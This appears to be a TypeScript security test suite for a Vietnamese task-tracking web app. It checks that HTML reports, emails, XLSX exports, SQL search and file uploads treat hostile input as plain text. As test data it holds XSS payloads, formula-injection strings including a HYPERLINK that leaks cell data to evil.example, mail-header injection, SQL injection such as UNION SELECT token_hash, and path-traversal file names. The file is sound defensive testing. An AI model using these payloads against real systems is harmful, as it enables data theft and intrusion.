/**
 * Hostile content (issue 10): text typed by people — task titles, notes, reasons, yearly report
 * summaries, file names — reaches HTML pages, mails, spreadsheets and SQL. Here it is markup, formula
 * and SQL on purpose, sent through the real API, and every output is read back the way its
 * consumer reads it: HTML in Chromium (no dialog, no injected element, the text shown as text), XLSX
 * with exceljs (no formula, no cell a spreadsheet would take for one), queries as plain text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { count } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import type { Browser, Page } from 'playwright-core';
import { and, eq, like } from 'drizzle-orm';
import { outbox, taskEvents, tasks } from '../../db/schema';
import { digestWorkflowId } from '../../workflows/constants';
import { localDate } from '../../domain/calendar';
import { renderDigest, renderNotice, type MailTask } from '../../domain/mail';
import { createLinkSigner, linkUrl } from '../../runtime/links';
import { ensureWebBuilt } from '../../scripts/build-web';
import { startStack, type TestStack } from '../helpers/stack';
import { testConfig } from '../helpers/temporal';
import { waitFor } from '../helpers/wait';
import { assignTask, command, expectErrorEnvelope, LEAD, seedWorld, type World } from './helpers';
import { launchChromium } from '../helpers/browser';

const HOSTILE_TITLE = `<script>alert(1)</script><img src=x onerror=alert(2)>`;
const HOSTILE_NOTE = `Ghi chú <b onmouseover="alert(3)">đậm</b>\n<iframe src="javascript:alert(4)"></iframe> & "nháy" 'đơn' </textarea><svg onload=alert(5)>`;
const HOSTILE_PLAN = `Kế hoạch <img src=x onerror=alert(6)> 2021–2025`;
const HOSTILE_SUMMARY = `Tóm tắt </li><script>alert(7)</script><a href="javascript:alert(8)">bấm</a>`;
const FORMULAS = [`=cmd|' /C calc'!A0`, '+1', '-1', '@SUM(1)'];
const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")';
/** Every fragment of the payloads that would be live markup if it were not escaped. */
const LIVE_MARKUP = /<(?:script|img|iframe|svg)\b|<[^>]*\s(?:onerror|onload|onmouseover)\s*=|<a\b[^>]*href="javascript:/i;

const REPORT_YEAR = 2025;
/** An evidence file's name as a hostile uploader types it. */
const HOSTILE_FILE_NAME = '<img src=x onerror=alert(10)>.pdf';

let stack: TestStack;
let world: World;
let browser: Browser;
let hostileTaskId: string;
const formulaTaskIds: string[] = [];

beforeAll(async () => {
  // Built before the app starts: it serves web/dist only when that exists.
  await ensureWebBuilt();
  stack = await startStack({ label: 'hostile' });
  world = await seedWorld(stack);
  browser = await launchChromium();

  const renamed = await stack.request('PATCH', `/api/plans/${world.planId}`, { token: world.tokens.coordinator, body: { title: HOSTILE_PLAN } });
  expect(renamed.status).toBe(200);
  // Started in the report's year, so the yearly report lists it.
  const task = await assignTask(stack, world, { title: HOSTILE_TITLE, note: HOSTILE_NOTE, description: HOSTILE_NOTE, startDate: '2025-03-01', dueDate: '2026-06-30' });
  expect(task.title).toBe(HOSTILE_TITLE);
  hostileTaskId = task.id;
  await command(stack, world.tokens.lead, hostileTaskId, 'acknowledge');
  await command(stack, world.tokens.lead, hostileTaskId, 'progress', { percent: 40, note: HOSTILE_NOTE });
  await command(stack, world.tokens.partner, hostileTaskId, 'contributions', { note: HOSTILE_NOTE });
  // A comment naming the coordinating agency, with a file whose name is markup.
  const form = new FormData();
  form.append('file', new Blob([Buffer.from('%PDF-1.4\n%%EOF\n')], { type: 'application/pdf' }), HOSTILE_FILE_NAME);
  const file = await stack.request('POST', `/api/tasks/${hostileTaskId}/attachments`, { token: world.tokens.lead, rawBody: form });
  expect(file.status, JSON.stringify(file.body)).toBe(201);
  await command(stack, world.tokens.lead, hostileTaskId, 'comments', { text: HOSTILE_NOTE, mentions: ['STC'], attachmentIds: [file.body.id] });
  for (const [i, title] of FORMULAS.entries()) {
    const t = await assignTask(stack, world, { title, note: i === 0 ? FORMULA_NOTE : undefined, number: title, startDate: '2025-03-01', dueDate: '2026-06-30' });
    formulaTaskIds.push(t.id);
  }
});

afterAll(async () => {
  await browser?.close();
  await stack?.close();
});

/**
 * Load HTML in Chromium as a page (no CSP: the markup alone must be inert) and report what would
 * have run: dialogs, and elements or attributes the payloads try to inject.
 */
async function renderInBrowser(html: string): Promise<{ dialogs: string[]; injected: number; text: string }> {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  try {
    await page.setContent(html, { waitUntil: 'load' });
    await page.waitForTimeout(100);
    const injected = await page.evaluate(
      () => document.querySelectorAll('script, img[src="x"], iframe, svg, [onerror], [onload], [onmouseover], a[href^="javascript:"]').length,
    );
    return { dialogs, injected, text: await page.evaluate(() => document.body.innerText) };
  } finally {
    await page.close();
  }
}

/** A cycle compiled by the product: last year's, past due, compiles at once; the agency's report recompiles it. */
async function compiledReport(): Promise<void> {
  const started = await stack.request('POST', `/api/plans/${world.planId}/annual-cycles`, { token: world.tokens.coordinator, body: { year: REPORT_YEAR } });
  expect(started.status, JSON.stringify(started.body)).toBe(201);
  const reportUrl = `/api/plans/${world.planId}/annual-cycles/${REPORT_YEAR}`;
  await waitFor(async () => (await stack.request('GET', reportUrl, { token: world.tokens.coordinator })).body.status, (s) => s === 'compiled', 'the first compilation');
  const submitted = await stack.request('POST', `${reportUrl}/reports`, {
    token: world.tokens.lead,
    body: { summary: HOSTILE_SUMMARY, tasks: [{ taskId: hostileTaskId, percent: 50, note: HOSTILE_NOTE }] },
  });
  expect(submitted.status, JSON.stringify(submitted.body)).toBe(201);
  await waitFor(
    async () => (await stack.request('GET', `${reportUrl}/report?format=json`, { token: world.tokens.coordinator })).body,
    (r) => Array.isArray(r?.agencies) && r.agencies.some((a: { summary: string | null }) => a.summary === HOSTILE_SUMMARY),
    "the recompilation with the agency's report",
  );
}

describe('the compiled yearly report', () => {
  beforeAll(compiledReport, 120_000);

  it('as HTML: every title, note and summary is escaped, and the page runs nothing', async () => {
    const res = await stack.request('GET', `/api/plans/${world.planId}/annual-cycles/${REPORT_YEAR}/report?format=html`, { token: world.tokens.viewer });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    // Even a slip in escaping could not run: no inline script is allowed on any answer.
    expect(res.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
    const html = res.body as string;
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;');
    expect(html).toContain('&lt;b onmouseover=&quot;alert(3)&quot;&gt;');
    expect(html).toContain('&lt;script&gt;alert(7)&lt;/script&gt;');
    expect(html).toContain('Kế hoạch &lt;img src=x onerror=alert(6)&gt; 2021–2025');
    expect(html).not.toMatch(LIVE_MARKUP);

    const page = await renderInBrowser(html);
    expect(page.dialogs).toEqual([]);
    expect(page.injected).toBe(0);
    expect(page.text).toContain(HOSTILE_TITLE);
    expect(page.text).toContain(HOSTILE_SUMMARY);
    expect(page.text).toContain(HOSTILE_PLAN);
  });

  it('as XLSX: nothing is a formula, and no text cell starts like one', async () => {
    const res = await fetch(`${stack.url}/api/plans/${world.planId}/annual-cycles/${REPORT_YEAR}/report?format=xlsx`, {
      headers: { authorization: `Bearer ${world.tokens.coordinator}` },
    });
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    const texts: string[] = [];
    const offending: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) offending.push(`${sheet.name}!${cell.address}: formula ${cell.formula}`);
          if (cell.type === ExcelJS.ValueType.Hyperlink) offending.push(`${sheet.name}!${cell.address}: hyperlink`);
          if (typeof cell.value === 'string') {
            texts.push(cell.value);
            if (/^[=+\-@\t\r]/.test(cell.value)) offending.push(`${sheet.name}!${cell.address}: ${cell.value}`);
          }
        }),
      ),
    );
    expect(offending).toEqual([]);
    // Each payload is still there, as the text it was, behind the neutralising mark.
    for (const payload of [...FORMULAS, FORMULA_NOTE, HOSTILE_TITLE]) {
      expect(texts.some((t) => t !== payload && t.endsWith(payload)) || texts.includes(payload), payload).toBe(true);
    }
    for (const payload of FORMULAS) expect(texts, payload).not.toContain(payload);
  });
});

describe('mails', () => {
  let task: MailTask;
  let openLink: string;
  let ackLink: string;
  beforeAll(async () => {
    const res = await stack.request('GET', `/api/tasks/${hostileTaskId}`, { token: world.tokens.lead });
    task = { id: res.body.id, number: res.body.number, title: res.body.title, dueDate: res.body.dueDate, status: res.body.status, leadAgencyName: res.body.leadAgencyName };
    expect(task.title).toBe(HOSTILE_TITLE);
    const signer = createLinkSigner(testConfig.LINK_SECRET!);
    openLink = linkUrl(testConfig.publicUrl, await signer.sign({ purpose: 'open', taskId: task.id, agencyCode: LEAD }));
    ackLink = linkUrl(testConfig.publicUrl, await signer.sign({ purpose: 'ack', taskId: task.id, agencyCode: LEAD }));
  });

  it('a digest and a notice, in Vietnamese and English, show the hostile title and note as text', async () => {
    const plan = { documentNumber: '212/KH-UBND', title: HOSTILE_PLAN };
    for (const language of ['vi', 'en'] as const) {
      const digest = renderDigest({
        language,
        recipientName: 'Sở Thông tin và Truyền thông',
        day: '2026-11-24',
        items: [
          { kind: 'due_reminder', copy: false, plan, task, links: { open: openLink, ack: ackLink } },
          { kind: 'due_reminder', copy: true, plan, task: { ...task, title: `${HOSTILE_TITLE} (bản phối hợp)` }, links: { open: openLink } },
          { kind: 'mention', copy: false, plan, task, comment: { author: `Chuyên viên <img src=x onerror=alert(11)>`, text: HOSTILE_NOTE }, links: { open: openLink } },
        ],
      });
      const notice = renderNotice({
        language,
        recipientName: 'Sở Thông tin và Truyền thông',
        day: '2026-11-24',
        kind: 'status_change',
        copy: false,
        plan,
        task,
        event: 'completion_returned',
        actorName: `Chuyên viên <img src=x onerror=alert(9)>`,
        note: HOSTILE_NOTE,
        links: { open: openLink },
      });
      for (const [name, mail] of [
        ['digest', digest],
        ['notice', notice],
      ] as const) {
        expect(mail.html, `${name} ${language}`).not.toMatch(LIVE_MARKUP);
        expect(mail.html, `${name} ${language}`).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
        const page = await renderInBrowser(mail.html);
        expect(page.dialogs, `${name} ${language}`).toEqual([]);
        expect(page.injected, `${name} ${language}`).toBe(0);
        expect(page.text, `${name} ${language}`).toContain(HOSTILE_TITLE);
        // The plain-text part carries the text as it was typed; the subject is one line.
        expect(mail.text).toContain(HOSTILE_TITLE);
        expect(mail.subject).not.toMatch(/[\r\n]/);
      }
      // The one-click links survive escaping intact.
      expect(notice.html).toContain(`href="${openLink}"`);
      expect(digest.html).toContain(`href="${ackLink}"`);
    }
  });

  it('a title with a line break cannot add a mail header', async () => {
    const injected = await assignTask(stack, world, { title: 'Báo cáo quý\r\nBcc: attacker@evil.example\r\n\r\n<b>thân thư giả</b>' });
    const row = (await stack.request('GET', `/api/tasks/${injected.id}`, { token: world.tokens.lead })).body;
    const mail = renderNotice({
      language: 'vi',
      recipientName: 'Sở Thông tin và Truyền thông\r\nCc: x@evil.example',
      day: '2026-11-24',
      kind: 'status_change',
      copy: false,
      plan: { documentNumber: '212/KH-UBND', title: 'Kế hoạch' },
      task: { id: row.id, number: row.number, title: row.title, dueDate: row.dueDate, status: row.status, leadAgencyName: row.leadAgencyName },
      event: 'cancelled',
      note: 'Lý do',
      links: { open: openLink },
    });
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(mail.subject).toContain('Bcc: attacker@evil.example');
    expect(mail.html).not.toContain('<b>thân thư giả</b>');
  });

  it('a comment with markup reaches the named agency’s digest escaped, through the real mail workflows', async () => {
    const [commented] = await stack.database.db.select().from(taskEvents).where(and(eq(taskEvents.taskId, hostileTaskId), eq(taskEvents.type, 'commented')));
    const day = localDate(commented!.at.getTime());
    const mentionDigest = () =>
      stack.database.db
        .select()
        .from(outbox)
        .where(and(eq(outbox.recipient, 'agency:STC'), eq(outbox.day, day), like(outbox.text, '%Ý kiến của Văn thư Sở TTTT%')));
    // Waiting on the digest's result lets the test server skip its collection window.
    for (let run = 0; run < 3 && (await mentionDigest()).length === 0; run++) await stack.env.client.workflow.getHandle(digestWorkflowId('agency:STC', day)).result();
    const [message] = await mentionDigest();
    expect(message, 'the digest with the mention').toBeDefined();
    expect(message!.html).not.toMatch(LIVE_MARKUP);
    expect(message!.subject).not.toMatch(/[\r\n]/);
    const page = await renderInBrowser(message!.html);
    expect(page.dialogs).toEqual([]);
    expect(page.injected).toBe(0);
    expect(page.text).toContain('Ghi chú <b onmouseover="alert(3)">đậm</b>');
    expect(message!.text).toContain('<iframe src="javascript:alert(4)"></iframe>');
  });

  it('a reason typed by the coordinator reaches the outbox escaped, through the real mail activity', async () => {
    const t = await assignTask(stack, world, { title: HOSTILE_TITLE });
    await command(stack, world.tokens.lead, t.id, 'acknowledge');
    await command(stack, world.tokens.lead, t.id, 'completion', { note: HOSTILE_NOTE });
    await command(stack, world.tokens.coordinator, t.id, 'return', { reason: HOSTILE_NOTE });
    const messages = await waitFor(
      async () => (await stack.request('GET', `/api/outbox?task=${t.id}&limit=50`, { token: world.tokens.coordinator })).body.items as { id: string; subject: string }[],
      (items) => items.length >= 2,
      'the status-change notices of the task',
      30_000,
    );
    for (const m of messages) {
      const message = (await stack.request('GET', `/api/outbox/${m.id}`, { token: world.tokens.coordinator })).body as { html: string; text: string; subject: string };
      expect(message.subject).not.toMatch(/[\r\n]/);
      expect(message.html).not.toMatch(LIVE_MARKUP);
      const page = await renderInBrowser(message.html);
      expect(page.dialogs).toEqual([]);
      expect(page.injected).toBe(0);
      expect(page.text).toContain(HOSTILE_TITLE);
    }
  });
});

describe('queries', () => {
  const list = (query: string, token = world.tokens.coordinator) => stack.request('GET', `/api/tasks?${query}`, { token });

  it("a search for ' OR 1=1 -- is a search for that text: 200 and nothing found", async () => {
    const all = await list('limit=200');
    expect(all.body.items.length).toBeGreaterThan(5);
    const res = await list(`q=${encodeURIComponent("' OR 1=1 --")}`);
    expect(res.status).toBe(200);
    expect(res.body.items).toEqual([]);
    for (const q of ["'; DROP TABLE tasks; --", '%', '_', '\\', "' UNION SELECT token_hash FROM users --", '") OR ("1"="1']) {
      const r = await list(`q=${encodeURIComponent(q)}`);
      expect(r.status, q).toBe(200);
      expect(r.body.items, q).toEqual([]);
    }
    const [{ n }] = (await stack.database.db.select({ n: count() }).from(tasks)) as [{ n: number }];
    expect(n).toBe(all.body.items.length);
  });

  it('a search finds the hostile title by its own text, and LIKE wildcards match only themselves', async () => {
    const res = await list(`q=${encodeURIComponent('<script>alert(1)')}`);
    expect(res.status).toBe(200);
    expect(res.body.items.map((t: { id: string }) => t.id)).toContain(hostileTaskId);
    const percent = await assignTask(stack, world, { title: 'Tỷ lệ 100% hồ sơ trực tuyến' });
    const found = await list(`q=${encodeURIComponent('100%')}`);
    expect(found.body.items.map((t: { id: string }) => t.id)).toEqual([percent.id]);
  });

  it('SQL-looking agency filters and cursors are plain values: empty or refused, never an error', async () => {
    const agency = await list(`agency=${encodeURIComponent("' OR '1'='1")}`);
    expect(agency.status).toBe(200);
    expect(agency.body.items).toEqual([]);
    const plan = await list(`plan=${encodeURIComponent("' OR 1=1 --")}`);
    expect(plan.status).toBe(422);
    expectErrorEnvelope(plan, 'plan');
    const status = await list(`status=${encodeURIComponent("assigned') OR ('1'='1")}`);
    expect(status.status).toBe(422);
    for (const cursor of [["2026-01-01' OR 1=1 --", '00000000-0000-4000-8000-000000000000'], ['2026-01-01', "x' OR '1'='1"], ['2026-02-31', 'abc']]) {
      const res = await list(`cursor=${Buffer.from(JSON.stringify(cursor)).toString('base64url')}`);
      expect(res.status, JSON.stringify(cursor)).toBe(422);
      expectErrorEnvelope(res, `cursor ${JSON.stringify(cursor)}`);
      expect(res.body.error.details[0].field).toBe('cursor');
    }
  });
});

describe('uploaded file names', () => {
  const csv = (title: string) => `STT,Tên nhiệm vụ,Đơn vị chủ trì,Thời gian thực hiện\n1,${title},Sở Thông tin và Truyền thông,2026\n`;

  it('a multipart upload named ../../etc/passwd.csv is recorded as passwd.csv', async () => {
    const form = new FormData();
    form.append('file', new Blob([csv('Triển khai chữ ký số chuyên dùng')], { type: 'text/csv' }), '../../etc/passwd.csv');
    const res = await stack.request('POST', `/api/plans/${world.planId}/import`, { token: world.tokens.coordinator, rawBody: form });
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    expect(res.body.job.fileName).toBe('passwd.csv');
    const job = await stack.request('GET', `/api/plans/${world.planId}/imports/${res.body.job.id}`, { token: world.tokens.coordinator });
    expect(job.body.fileName).toBe('passwd.csv');
  });

  it('a raw upload named with Windows separators keeps only the last part', async () => {
    const res = await stack.request('POST', `/api/plans/${world.planId}/import`, {
      token: world.tokens.coordinator,
      rawBody: csv('Nâng cấp cổng dịch vụ công'),
      headers: { 'content-type': 'text/csv', 'x-file-name': '..\\..\\Windows\\System32\\phu-luc.csv' },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    expect(res.body.job.fileName).toBe('phu-luc.csv');
  });
});

describe('the web UI', () => {
  let page: Page;
  const dialogs: string[] = [];

  beforeAll(async () => {
    const context = await browser.newContext({ baseURL: stack.url, locale: 'vi-VN', timezoneId: 'Asia/Ho_Chi_Minh' });
    page = await context.newPage();
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.setDefaultTimeout(20_000);
  });

  const injectedElements = () =>
    page.evaluate(() => document.querySelectorAll('script:not([src]), img[src="x"], iframe, svg[onload], [onerror], [onload], [onmouseover], a[href^="javascript:"]').length);

  it('signs in from a one-click address and drops the token from it', async () => {
    await page.goto(`/signin?token=${encodeURIComponent(world.tokens.lead)}`);
    await page.waitForURL((url) => !url.pathname.startsWith('/signin'));
    expect(page.url()).not.toContain(world.tokens.lead);
  });

  it('the task page shows the hostile title, note and contribution as text, and nothing runs', async () => {
    await page.goto(`/tasks/${hostileTaskId}`);
    await page.getByRole('heading', { name: HOSTILE_TITLE, level: 1 }).waitFor();
    await page.locator('.timeline__note').first().waitFor();
    const notes = (await page.locator('.timeline__note').allInnerTexts()).map((n) => n.replace(/\s+/g, ' ').trim());
    // The progress report's note, the contribution and the comment, at least.
    expect(notes.filter((n) => n === HOSTILE_NOTE.replace(/\s+/g, ' ')).length).toBeGreaterThanOrEqual(3);
    // The file's name, made safe when it was stored, is shown as text in the timeline and the list of files.
    const fileName = '_img src=x onerror=alert(10)_.pdf';
    await page.locator('.timeline__item--commented').getByRole('button', { name: `Tải về ${fileName}` }).waitFor();
    expect(await page.locator('.detail--attachments').innerText()).toContain(fileName);
    await page.waitForTimeout(300);
    expect(await injectedElements()).toBe(0);
    expect(dialogs).toEqual([]);
  });

  it('the task list shows it as text too, for the agency and for the coordinator', async () => {
    await page.goto('/tasks');
    await page.getByText(HOSTILE_TITLE, { exact: true }).first().waitFor();
    expect(await injectedElements()).toBe(0);
    await page.evaluate(() => localStorage.clear());
    await page.goto(`/signin?token=${encodeURIComponent(world.tokens.coordinator)}`);
    await page.waitForURL((url) => !url.pathname.startsWith('/signin'));
    await page.goto(`/plans/${world.planId}`);
    await page.getByText(HOSTILE_PLAN, { exact: false }).first().waitFor();
    await page.goto(`/tasks?plan=${world.planId}`);
    await page.getByText(HOSTILE_TITLE, { exact: true }).first().waitFor();
    await page.waitForTimeout(300);
    expect(await injectedElements()).toBe(0);
    expect(dialogs).toEqual([]);
  });

  it('the HTML report opened in the browser with its real headers runs nothing', async () => {
    const context = await browser.newContext({ extraHTTPHeaders: { authorization: `Bearer ${world.tokens.viewer}` } });
    const report = await context.newPage();
    const seen: string[] = [];
    report.on('dialog', (d) => {
      seen.push(d.message());
      void d.dismiss();
    });
    try {
      const res = await report.goto(`${stack.url}/api/plans/${world.planId}/annual-cycles/${REPORT_YEAR}/report?format=html`);
      expect(res?.status()).toBe(200);
      await report.getByText(HOSTILE_TITLE).first().waitFor();
      expect(seen).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
